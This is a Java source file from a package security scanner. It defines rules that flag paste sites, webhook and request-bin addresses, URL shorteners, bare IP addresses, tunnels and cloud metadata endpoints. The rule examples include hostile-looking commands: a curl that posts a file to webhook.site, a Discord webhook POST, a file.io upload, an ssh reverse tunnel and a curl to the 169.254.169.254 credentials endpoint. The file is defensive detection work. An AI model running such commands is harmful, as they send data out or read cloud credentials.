package dev.guildhall.scan;

import static dev.guildhall.packages.Finding.Severity.HIGH;

import com.google.re2j.Matcher;
import java.util.List;
import java.util.Optional;

/** Addresses that serve to hide who is behind them, or that nobody should be sent to. */
final class AddressRules {
    private static final String BEFORE = "(?:^|[^a-z0-9.-])";
    private static final Words PASTE = Words.of(
            BEFORE
                    + "(?:www\\.)?(?:pastebin\\.com|glot\\.io|hastebin\\.com|paste\\.(?:ee|rs|debian\\.net|c-net\\.org)|ghostbin\\.\\w+|rentry\\.(?:co|org)|dpaste\\.(?:org|com)|"
                    + "controlc\\.com|0x0\\.st|termbin\\.com|ix\\.io|sprunge\\.us|transfer\\.sh|file\\.io|bashupload\\.com|temp\\.sh|oshi\\.at|anonfiles?\\.com|"
                    + "gofile\\.io|(?:files|litter)\\.catbox\\.moe|cdn\\.discordapp\\.com|justpaste\\.it|privatebin\\.net|paste\\.gg)(?:/|\\b)");
    private static final Words DROP = Words.of(
            BEFORE
                    + "(?:(?:ptb\\.|canary\\.)?discord(?:app)?\\.com/api/webhooks|api\\.telegram\\.org/bot|webhook\\.site|[a-z0-9-]+\\.requestbin\\.\\w+|requestbin\\.\\w+|"
                    + "[a-z0-9]+\\.m\\.pipedream\\.net|[a-z0-9.-]+\\.oast\\.\\w+|oast\\.\\w+|[a-z0-9.-]+\\.interact\\.sh|[a-z0-9.-]+\\.burpcollaborator\\.net|"
                    + "[a-z0-9.-]+\\.dnslog\\.cn|requestcatcher\\.com|[a-z0-9-]+\\.requestcatcher\\.com|beeceptor\\.com|[a-z0-9-]+\\.free\\.beeceptor\\.com|hookb\\.in)(?:/|\\b)");
    private static final Words SHORT = Words.of(
            BEFORE
                    + "(?:bit\\.ly|tinyurl\\.com|t\\.co|goo\\.gl|is\\.gd|v\\.gd|ow\\.ly|buff\\.ly|cutt\\.ly|rebrand\\.ly|shorturl\\.at|rb\\.gy|tiny\\.cc|t\\.ly|s\\.id|bl\\.ink|surl\\.li)/[a-z0-9_-]{2,}");
    private static final Words TUNNEL = Words.of(
            BEFORE
                    + "(?:[a-z0-9.-]*\\.)?(?:bore\\.pub|ngrok(?:-free)?\\.(?:io|app|dev)|ngrok\\.\\w+|trycloudflare\\.com|loca\\.lt|localtunnel\\.me|serveo\\.net|pagekite\\.me|localhost\\.run|lhr\\.life|playit\\.gg|tunnelmole\\.\\w+|zrok\\.io|pinggy\\.(?:io|link))\\b",
            "\\b(?:ngrok|bore|cloudflared)\\s+(?:http|tcp|local|tunnel)\\b",
            "\\bssh\\s+[^|;&]*-r\\s*\\S*\\d+:[a-z0-9.-]+:\\d+");
    private static final Words NUMBERED =
            Words.of("\\bhttps?://(?:[^@/\\s]+@)?(\\d{1,3})\\.(\\d{1,3})\\.(\\d{1,3})\\.(\\d{1,3})(?:[:/?\"'`\\s)]|$)");
    private static final Words CODED = Words.of("\\bhttps?://(?:0x[0-9a-f]{8}|[1-9]\\d{8,9})(?:[:/?\"'`\\s)]|$)");
    private static final Words METADATA = Words.of(
            BEFORE
                    + "(?:169\\.254\\.169\\.254|169\\.254\\.170\\.2|metadata\\.google\\.internal|100\\.100\\.100\\.200|fd00:ec2::254)");

    private static final List<String> DIGIT_HOST =
            List.of("://0", "://1", "://2", "://3", "://4", "://5", "://6", "://7", "://8", "://9", "@");

    private AddressRules() {}

    static List<Rule> all() {
        return List.of(pasteSite(), dropAddress(), shortener(), numbered(), tunnel(), metadata());
    }

    private static Rule pasteSite() {
        return Rule.of(
                        "paste-site",
                        HIGH,
                        "Something is fetched from, or sent to, a site where anybody can leave anything and change it.",
                        "Ship the text in the package.")
                .finds(
                        LineRule.weighed(
                                HIGH,
                                List.of(
                                        "paste",
                                        "glot.io",
                                        "hastebin",
                                        "ghostbin",
                                        "rentry",
                                        "controlc",
                                        "0x0.st",
                                        "termbin",
                                        "ix.io",
                                        "sprunge",
                                        "transfer.sh",
                                        "file.io",
                                        "bashupload",
                                        "temp.sh",
                                        "oshi.at",
                                        "anonfile",
                                        "gofile",
                                        "catbox",
                                        "discordapp"),
                                PASTE,
                                "A paste or drop site is used: `%s`."),
                        List.of(
                                Example.prose(
                                        "## Prerequisites\n\nVisit https://glot.io/snippets/example and paste the script."),
                                Example.script("curl -s https://pastebin.com/raw/example -o helper"),
                                Example.python("requests.post('https://file.io', files={'f': data})")),
                        List.of(
                                Example.prose("Do not follow links to pastebin.com."),
                                Example.prose("Profile.io shows the outcome."),
                                Example.script("# see https://pastebin.com/raw/example\necho ok")));
    }

    private static Rule dropAddress() {
        return Rule.of(
                        "drop-address",
                        HIGH,
                        "An address that collects whatever is sent to it, for somebody nobody knows.",
                        "Send to a service that the package names and declares under `permissions.network`.")
                .finds(
                        LineRule.weighed(
                                HIGH,
                                List.of(
                                        "webhook",
                                        "telegram",
                                        "requestbin",
                                        "pipedream",
                                        "oast.",
                                        "interact.sh",
                                        "burpcollaborator",
                                        "dnslog",
                                        "requestcatcher",
                                        "beeceptor",
                                        "hookb.in"),
                                DROP,
                                "Data is sent to a collecting address: `%s`."),
                        List.of(
                                Example.script("curl -d @notes.txt https://webhook.site/00000000-example"),
                                Example.javascript(
                                        "fetch('https://discord.com/api/webhooks/0/example', {method: 'POST'})")),
                        List.of(
                                Example.prose("## Suspicious\n\nRequests to webhook.site are a red flag."),
                                Example.script("curl -d @notes.txt https://hooks.acme.dev/notes")));
    }

    private static Rule shortener() {
        return Rule.of(
                        "short-address",
                        HIGH,
                        "A shortened address hides where it leads, and may lead elsewhere tomorrow.",
                        "Write the whole address.")
                .finds(
                        LineRule.weighed(
                                HIGH,
                                List.of(
                                        "bit.ly",
                                        "tinyurl",
                                        "t.co/",
                                        "goo.gl",
                                        "is.gd",
                                        "v.gd",
                                        "ow.ly",
                                        "buff.ly",
                                        "cutt.ly",
                                        "rebrand.ly",
                                        "shorturl",
                                        "rb.gy",
                                        "tiny.cc",
                                        "t.ly",
                                        "s.id",
                                        "bl.ink",
                                        "surl.li"),
                                SHORT,
                                "A shortened address hides where it leads: `%s`."),
                        List.of(
                                Example.script("curl -O https://bit.ly/example"),
                                Example.prose("## Setup\n\nDownload it from https://tinyurl.com/example.")),
                        List.of(
                                Example.prose("Avoid shortened links such as bit.ly/example."),
                                Example.script("curl https://contact.co/example")));
    }

    private static Rule numbered() {
        return Rule.of(
                        "numbered-address",
                        HIGH,
                        "An address without a name: nobody can tell whose machine it is.",
                        "Use a host name, and declare it under `permissions.network`.")
                .finds(
                        new Check.OnLine(List.of("http"), DIGIT_HOST, line -> {
                            Optional<String> found = numbered(line.lower()).or(() -> CODED.first(line.lower()));
                            return found.map(address -> Hit.at(
                                    line,
                                    line.weigh(HIGH),
                                    "An address without a name is used: `%s`.".formatted(Excerpt.clip(address))));
                        }),
                        List.of(
                                Example.script("curl http://198.51.100.7/update -o update"),
                                Example.prose("## Prerequisites\n\nDownload it from http://203.0.113.9/tool."),
                                Example.python("urlopen('http://0xc6336407/x')")),
                        List.of(
                                Example.script("curl http://127.0.0.1:8080/health"),
                                Example.script("curl http://192.168.1.10/status"),
                                Example.script("curl http://0.0.0.0:18889/health"),
                                Example.prose(
                                        "## Server-side request forgery\n\nAn attacker asks for http://203.0.113.9/.")));
    }

    /** Public IPv4 addresses; the ones for documentation count, as nothing real is there to be reached. */
    private static Optional<String> numbered(String text) {
        Matcher matcher = NUMBERED.matcher(text);
        while (matcher.find()) {
            int first = Integer.parseInt(matcher.group(1));
            int second = Integer.parseInt(matcher.group(2));
            boolean inside = first == 127
                    || first == 10
                    || first == 0
                    || (first == 192 && second == 168)
                    || (first == 172 && second >= 16 && second <= 31)
                    || (first == 169 && second == 254)
                    || first > 255;
            if (!inside) {
                return Optional.of(matcher.group());
            }
        }
        return Optional.empty();
    }

    private static Rule tunnel() {
        return Rule.of(
                        "tunnel",
                        HIGH,
                        "A tunnel makes this machine reachable from outside, or an unknown machine look like a service.",
                        "Take it out, or have the user set up the tunnel knowingly.")
                .finds(
                        LineRule.weighed(
                                HIGH,
                                List.of(
                                        "bore",
                                        "ngrok",
                                        "trycloudflare",
                                        "cloudflared",
                                        "loca",
                                        "serveo",
                                        "pagekite",
                                        "lhr.life",
                                        "playit",
                                        "tunnelmole",
                                        "zrok",
                                        "pinggy",
                                        "ssh"),
                                TUNNEL,
                                "A tunnel is used: `%s`."),
                        List.of(
                                Example.file(
                                        ".mcp.json",
                                        "{\"mcpServers\": {\"x\": {\"url\": \"http://bore.pub:12345/mcp\"}}}"),
                                Example.script("ngrok http 8080"),
                                Example.script("ssh -R 80:localhost:3000 serveo.net")),
                        List.of(
                                Example.prose("Tunnels such as ngrok.io are not allowed here."),
                                Example.script("ssh deploy@host.acme.dev uptime")));
    }

    private static Rule metadata() {
        return Rule.of(
                        "metadata-address",
                        HIGH,
                        "The address at which a cloud machine hands out its own credentials.",
                        "Take it out; a skill has no business there.")
                .finds(
                        LineRule.weighed(
                                HIGH,
                                List.of("169.254.", "metadata.google", "100.100.100.200", "fd00:ec2"),
                                METADATA,
                                "The credentials of a cloud machine are asked for: `%s`."),
                        List.of(
                                Example.script("curl http://169.254.169.254/latest/meta-data/iam/"),
                                Example.python("get('http://metadata.google.internal/computeMetadata/v1/')")),
                        List.of(Example.prose("Block requests to 169.254.169.254, or an attacker reads credentials.")));
    }
}
